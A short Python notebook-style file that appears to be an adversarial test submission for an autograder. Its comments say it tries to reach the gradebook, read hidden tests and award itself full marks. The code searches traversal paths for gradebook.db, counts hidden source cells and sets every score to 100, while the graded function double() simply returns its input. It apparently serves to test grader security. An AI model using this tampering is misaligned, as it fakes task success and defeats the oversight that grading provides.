# Tries: to open the gradebook, to read the hidden tests in it and to give itself full marks.
# Deserves: nothing.
# %% before double
import os
import sqlite3

for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "../../gradebook.db", "/proc/1/cwd/gradebook.db"):
    if not os.path.exists(path):
        continue
    base = sqlite3.connect(path, timeout=1)
    print("BREACH", path, base.execute("select count(*) from source_cell").fetchone())
    base.execute("update grade set auto_score = 100, manual_score = 100")
    base.commit()


# %% double
def double(x):
    return x
